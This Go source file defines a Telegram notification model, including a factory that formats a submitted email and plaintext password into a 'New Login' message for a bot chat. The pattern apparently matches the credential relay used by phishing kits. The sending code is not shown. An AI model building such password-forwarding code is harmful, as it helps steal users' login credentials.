package model

import "fmt"

// loginMessageTemplate is the fixed template used when a caller submits an
// email/password pair instead of a ready message. The values are interpolated
// verbatim, without HTML escaping, to reproduce the exact historical output.
const loginMessageTemplate = "<b>New Login</b>\n📧 Email: %s\n🔑 Password: %s"

// Notification is the core business entity of the application.
// It is the canonical value both input shapes normalize into; after
// normalization all three fields are non-empty.
type Notification struct {
	BotToken string // Telegram bot token the message is sent through.
	ChatID   string // Recipient chat, numeric ID or @channel name.
	Text     string // Message body, HTML parse mode.
}

// NewTextNotification is a factory function for a notification carrying an
// already assembled message.
func NewTextNotification(botToken, chatID, text string) *Notification {
	return &Notification{
		BotToken: botToken,
		ChatID:   chatID,
		Text:     text,
	}
}

// NewLoginNotification is a factory function for a notification built from an
// email/password pair using the fixed login template.
func NewLoginNotification(botToken, chatID, email, password string) *Notification {
	return &Notification{
		BotToken: botToken,
		ChatID:   chatID,
		Text:     fmt.Sprintf(loginMessageTemplate, email, password),
	}
}
